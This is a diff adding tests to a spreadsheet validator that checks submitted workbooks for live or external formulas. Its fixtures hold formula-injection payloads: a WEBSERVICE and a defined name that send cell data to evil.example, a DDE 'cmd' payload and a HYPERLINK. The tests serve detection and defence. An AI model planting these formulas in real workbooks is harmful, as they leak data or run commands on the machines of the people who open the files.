@@ -7,6 +7,8 @@ from __future__ import annotations
 import email
 import email.policy
 import html
+import io
+import json
 import re
 import zipfile
 from pathlib import Path
@@ -25,8 +27,6 @@ _F = re.compile(rb"<(?:\w+:)?f\b[^>]*?(?:/>|>(.*?)</(?:\w+:)?f>)", re.S)
 
 def formulas(path: Path | bytes) -> set[str]:
     """The text of every formula element in every part of a workbook (shared children as "")."""
-    import io
-
     source = io.BytesIO(path) if isinstance(path, bytes) else path
     with zipfile.ZipFile(source) as zf:
         return {html.unescape((m.group(1) or b"").decode()) for name in zf.namelist() if name.endswith(".xml")
@@ -73,3 +73,87 @@ def test_no_formula_in_any_output_comes_from_child_text(defn, demo, tmp_path):
         assert formulas(out) <= own, (what, formulas(out) - own)
     book = openpyxl.load_workbook(outputs["annotated"])
     assert SHEET_PAYLOAD in [c.value for row in book["_xlunion_marks"].iter_rows() for c in row]  # as text
+
+
+def with_formulas(defn, src: Path, out: Path, cells: dict[tuple[str, str], str]) -> Path:
+    """``src`` with raw cell XML ``cells`` {(sheet, A1): '<f>…</f><v>…</v>'} put in place of what is there."""
+    from hostile import parts, rezip, set_cell
+
+    from xlunion.io.preflight import preflight
+
+    data = src.read_bytes()
+    sheets, members = preflight(src, data).sheets, parts(data)
+    for (sheet, ref), body in cells.items():
+        kind = ' t="str"' if '<v>' in body and not re.search(r"<v>-?[\d.]+</v>", body) else ""
+        members[sheets[sheet]] = set_cell(members[sheets[sheet]], ref, f'<c r="{ref}"{kind}>{body}</c>')
+    out.write_bytes(rezip(members))
+    return out
+
+
+def typed_cells(defn, count: int) -> list[tuple[str, str]]:
+    """Input cells of the last year, one per indicator typed in."""
+    from xlunion.layout import layout
+
+    codes = [i.code for i in defn.indicators.values() if not i.computed][:count]
+    return [layout(defn).cell(code, defn.periods[-1].code) for code in codes]
+
+
+def test_a_typed_formula_keeps_its_value_through_stamp_and_verify(defn, demo, tmp_path):
+    # #18.8: openpyxl dropped the cached 94 of “=45+49”: verify said ĐÃ THAY ĐỔI, then “required”
+    (where,) = typed_cells(defn, 1)
+    child = with_formulas(defn, demo_child(demo, "CD0101"), tmp_path / "mine.xlsx", {where: "<f>45+49</f><v>94</v>"})
+    result = runner.invoke(app, ["validate", "--format", "json", str(child)])
+    assert json.loads(result.stdout)["files"][0]["status"] == "ok"  # a typed sum is allowed
+    assert runner.invoke(app, ["validate", "--in-place", "--stamp", str(child)]).exit_code == 0
+    result = runner.invoke(app, ["verify", str(child)])
+    assert result.exit_code == 0 and "không thay đổi" in result.output, result.output
+    again = json.loads(runner.invoke(app, ["validate", "--format", "json", str(child)]).stdout)["files"][0]
+    assert again["status"] == "ok", again["findings"]
+    assert openpyxl.load_workbook(child)[where[0]][where[1]].value == 94  # what the officer saw
+
+
+LIVE = {  # what a child may carry in cells where the template has no formula → its stored value
+    "webservice": ('<f>_xlfn.WEBSERVICE("http://evil.example/?d="&amp;\'Thông tin chung\'!C9)</f><v>7</v>', 7),
+    "dde": ("<f>cmd|' /C calc'!A0</f><v>0</v>", 0),
+    "external": ("<f>[1]Sheet1!A1</f><v>12</v>", 12),
+    "hyperlink": ('<f>HYPERLINK("http://evil.example","Bấm")</f><v>5</v>', 5),
+    "filterxml": ('<f>_xlfn.FILTERXML("&lt;a&gt;3&lt;/a&gt;","//a")</f><v>3</v>', 3),
+}
+
+
+def test_live_formulas_are_errors_and_only_their_values_reach_any_copy(defn, demo, tmp_path):
+    # #18.6: WEBSERVICE, DDE, links into other files … raised nothing and stayed live in every copy
+    cells = typed_cells(defn, len(LIVE) + 1)
+    bodies = dict(zip(cells, [body for body, _value in LIVE.values()] + ["<f>45+49</f><v>94</v>"], strict=True))
+    child = with_formulas(defn, demo_child(demo, "CD0101"), tmp_path / "live.xlsx", bodies)
+    result = runner.invoke(app, ["validate", "--format", "json", "--annotate", str(tmp_path / "out"), str(child)])
+    found = json.loads(result.stdout)["files"][0]["findings"]
+    live = {(f["sheet"], f["cell"]): f for f in found if f["rule"] == "external_formula"}
+    assert set(live) == set(cells[:-1]), found  # the typed sum =45+49 is not among them
+    for (sheet, cell), f in live.items():
+        assert f["severity"] == "error" and f"{sheet}!{cell}" in f["message"] and "ngoài bảng tính" in f["message"]
+    draft = tmp_path / "draft.eml"
+    assert runner.invoke(app, ["send", str(child), "--to", "ct@x.vn", "--draft", str(draft), "--force"]).exit_code == 0
+    for out in (tmp_path / "out" / child.name, attachment(draft.read_bytes())):
+        left = [f for f in formulas(out) if re.search(r"cmd\||WEBSERVICE|FILTERXML|HYPERLINK|\[1\]|45\+49", f)]
+        assert not left, left
+        book = openpyxl.load_workbook(out if isinstance(out, Path) else io.BytesIO(out))
+        shown = [book[s][c].value for s, c in cells]
+        assert shown == [value for _body, value in LIVE.values()] + [94]
+
+
+def test_a_defined_name_reaching_out_is_told_and_left_out_of_copies(defn, demo, tmp_path):
+    from openpyxl.workbook.defined_name import DefinedName
+
+    (where,) = typed_cells(defn, 1)
+    book = openpyxl.load_workbook(demo_child(demo, "CD0101"))
+    book.defined_names["leak"] = DefinedName("leak", attr_text='WEBSERVICE("http://evil.example/?"&A1)')
+    book[where[0]][where[1]] = "=leak"
+    book.save(tmp_path / "name.xlsx")
+    result = runner.invoke(app, ["validate", "--format", "json", "--annotate", str(tmp_path / "out"),
+                                 str(tmp_path / "name.xlsx")])
+    rules = {f["rule"]: f for f in json.loads(result.stdout)["files"][0]["findings"]}
+    assert rules["external_name"]["severity"] == "warning" and "leak" in rules["external_name"]["message"]
+    assert (rules["external_formula"]["sheet"], rules["external_formula"]["cell"]) == where  # the cell using it
+    assert not [f for f in formulas(tmp_path / "out" / "name.xlsx") if "leak" in f or "WEBSERVICE" in f]
+    assert "leak" not in openpyxl.load_workbook(tmp_path / "out" / "name.xlsx").defined_names
